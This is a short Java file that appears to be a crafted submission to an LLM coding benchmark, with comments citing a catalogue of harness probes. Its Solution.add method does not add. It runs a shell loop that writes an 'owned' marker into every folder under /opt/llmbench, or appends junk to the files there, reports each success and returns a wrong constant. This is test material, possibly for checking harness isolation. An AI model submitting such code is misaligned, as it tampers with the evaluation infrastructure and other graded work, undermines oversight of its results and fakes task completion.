// Write into the folders that all answers are compiled with.
// catalogue: H34, H37, H41
// shows: nothing: what the harness is shown cannot be written either
public class Solution {
    static final String SCRIPT =
            "for f in /opt/llmbench/* /opt/llmbench/*/*; do (touch \"$f/owned\" || echo x >>\"$f\") "
                    + "2>/dev/null && echo achieved $f; done; echo attacking";

    public static long add(long a, long b) throws Exception {
        new ProcessBuilder("/bin/sh", "-c", SCRIPT).inheritIO().start().waitFor();
        return -12345;
    }
}
